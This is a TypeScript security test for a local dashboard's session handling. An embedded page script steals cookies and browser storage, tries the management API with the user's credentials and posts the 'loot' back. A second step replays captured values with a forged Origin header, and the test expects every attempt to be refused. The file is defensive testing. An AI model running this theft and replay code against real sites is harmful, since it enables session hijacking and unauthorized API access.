import { createServer, request, type IncomingHttpHeaders, type Server } from 'node:http';
import { readFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { goTo, startDashboard, type Dashboard } from './start-dashboard.ts';

interface Received {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/**
 * Another server on this machine, on another loopback port (a dev server running a dependency's
 * code, a container's published port): it records every request the browser makes to it, and its
 * page sends back whatever it can read (document.cookie, its localStorage and sessionStorage) and
 * tries the management API itself from the browser.
 */
function startOtherLocalServer(patchbayUrl: string): Promise<{ url: string; received: Received[]; close: () => Promise<void> }> {
  const received: Received[] = [];
  const page = `<!doctype html><title>some dev server</title><script>
    (async () => {
      const loot = { cookie: document.cookie, local: { ...localStorage }, session: { ...sessionStorage } };
      const tries = {};
      for (const [method, path] of [['GET', '/api/keys'], ['POST', '/api/keys'], ['GET', '/api/session']]) {
        try {
          const r = await fetch(${JSON.stringify(patchbayUrl)} + path, { method, credentials: 'include', headers: method === 'POST' ? { 'content-type': 'application/json' } : {}, body: method === 'POST' ? '{"name":"stolen"}' : undefined });
          tries[method + ' ' + path] = r.status + ' ' + (await r.text());
        } catch (e) { tries[method + ' ' + path] = String(e); }
      }
      await fetch('/loot', { method: 'POST', body: JSON.stringify({ loot, tries }) });
      document.title = 'done';
    })();
  </script>`;
  const server: Server = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8');
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      received.push({ method: req.method!, url: req.url!, headers: req.headers, body });
      if (req.url === '/') res.writeHead(200, { 'content-type': 'text/html' }).end(page);
      else res.writeHead(204).end();
    });
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () =>
      resolve({
        url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
        received,
        // A keep-alive connection the browser still holds would keep close() waiting forever (it
        // hung CI's teardown for the 600 s hook timeout once): end every connection first.
        close: () =>
          new Promise((done) => {
            server.close(() => done());
            server.closeAllConnections();
          }),
      }),
    ),
  );
}

/** One HTTP request with exactly these headers (fetch forbids setting Origin, Cookie and Host). */
function call(base: string, method: string, path: string, headers: Record<string, string>, body?: string): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = request(`${base}${path}`, { method, headers: { ...headers, ...(body ? { 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(body)) } : {}) } }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (d) => (text += d));
      res.on('end', () => resolve({ status: res.statusCode!, text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** Every string value the other server got: header values, the page's loot, in pieces. */
function candidateSecrets(received: Received[]): string[] {
  const values = new Set<string>();
  const add = (value: unknown) => {
    if (typeof value === 'string') {
      values.add(value);
      for (const part of value.split(/[;,\s]+/)) {
        values.add(part);
        if (part.includes('=')) values.add(part.slice(part.indexOf('=') + 1));
      }
    } else if (Array.isArray(value)) value.forEach(add);
    else if (value && typeof value === 'object') Object.values(value).forEach(add);
  };
  for (const r of received) {
    add(r.headers);
    if (r.body) add(JSON.parse(r.body));
  }
  return [...values].filter((v) => v.length >= 16 && v.length <= 512);
}

describe('the dashboard session, seen from another server on this machine', () => {
  let d: Dashboard;
  let other: Awaited<ReturnType<typeof startOtherLocalServer>>;

  beforeAll(async () => {
    d = await startDashboard();
    other = await startOtherLocalServer(d.pb.patchbay.url);
  });
  afterAll(async () => {
    await other?.close();
    await d?.stop();
  });

  it('opens nothing: whatever the signed-in browser sends another loopback port, and its page can read, is refused by /api', async () => {
    const base = d.pb.patchbay.url;
    // The signed-in browser visits the other server, as a user opens a dev server's page.
    const page = await d.context.newPage();
    await page.goto(`${other.url}/`);
    await page.waitForFunction('document.title === "done"');
    await page.close();

    const visit = other.received.find((r) => r.url === '/')!;
    // Cookies ignore ports: the other server does get the dashboard's cookie ...
    expect(visit.headers.cookie).toMatch(/patchbay_session=/);
    const loot = JSON.parse(other.received.find((r) => r.url === '/loot')!.body).loot;
    const tries = JSON.parse(other.received.find((r) => r.url === '/loot')!.body).tries as Record<string, string>;
    // ... but the page's own storage is another origin's, and the browser's own tries were refused.
    expect(JSON.stringify(loot.local) + JSON.stringify(loot.session)).not.toMatch(/patchbay/i);
    for (const outcome of Object.values(tries)) expect(outcome).not.toMatch(/^2\d\d/);

    // Everything received, replayed from a script that can set any header (Origin forged to Patchbay's own).
    const forwarded = Object.fromEntries(Object.entries(visit.headers).filter(([name]) => !['host', 'connection', 'content-length'].includes(name))) as Record<string, string>;
    const attempts: { what: string; status: number; text: string }[] = [];
    const tryAll = async (headers: Record<string, string>, what: string) => {
      attempts.push({ what: `GET /api/keys ${what}`, ...(await call(base, 'GET', '/api/keys', headers)) });
      attempts.push({ what: `POST /api/keys ${what}`, ...(await call(base, 'POST', '/api/keys', { ...headers, origin: base }, '{"name":"stolen"}')) });
      attempts.push({ what: `GET /api/usage/export ${what}`, ...(await call(base, 'GET', '/api/usage/export?format=json', headers)) });
      attempts.push({ what: `DELETE /api/session ${what}`, ...(await call(base, 'DELETE', '/api/session', { ...headers, origin: base })) });
    };
    await tryAll(forwarded, 'with every header the browser sent');
    await tryAll({ cookie: visit.headers.cookie! }, 'with the cookie');
    for (const value of candidateSecrets(other.received)) {
      await tryAll({ cookie: visit.headers.cookie!, 'x-patchbay-session': value }, 'with a received value as the session header');
      await tryAll({ cookie: visit.headers.cookie!, authorization: `Bearer ${value}` }, 'with a received value as a bearer token');
    }
    for (const attempt of attempts) expect(attempt.status, `${attempt.what}: ${attempt.text}`).toBe(401);
    // The live event stream too (a 401 answers at once; a stream would never end).
    const events = await fetch(`${base}/api/events`, { headers: { cookie: visit.headers.cookie! } });
    expect(events.status).toBe(401);
    await events.body?.cancel();
    expect((await d.api('GET', '/keys')).body.data.map((k: { name: string }) => k.name)).not.toContain('stolen');
  });

  it('keeps the dashboard working in the same browser: reload, a new tab, the export download, the live event stream', async () => {
    const page = await d.open('keys');
    await page.getByRole('row', { name: /default/ }).waitFor();
    await page.reload();
    await page.getByRole('row', { name: /default/ }).waitFor();
    // A new tab of the same browser shares the session (the page secret sits in this origin's localStorage).
    const tab = await d.open('usage');
    await d.pb.client.chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'for the export' }] });
    const [download] = await Promise.all([tab.waitForEvent('download'), tab.getByRole('button', { name: 'CSV' }).click()]);
    expect(download.suggestedFilename()).toMatch(/^patchbay-usage-\d{4}-\d{2}\.csv$/);
    expect(readFileSync((await download.path())!, 'utf8')).toMatch(/request_id[\s\S]*gpt-4o-mini/);
    const [json] = await Promise.all([tab.waitForEvent('download'), tab.getByRole('button', { name: 'JSON' }).click()]);
    expect(JSON.parse(readFileSync((await json.path())!, 'utf8'))).toEqual(expect.arrayContaining([expect.objectContaining({ requested_model: 'gpt-4o-mini' })]));
    await goTo(tab, 'Requests');
    await tab.getByRole('status').filter({ hasText: 'Live' }).waitFor();
    const answer = await d.pb.client.chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'live?' }] }).withResponse();
    await tab.getByRole('button', { name: `Open request ${answer.response.headers.get('x-patchbay-request-id')}` }).waitFor();
    await Promise.all([page.close(), tab.close()]);
  });
});
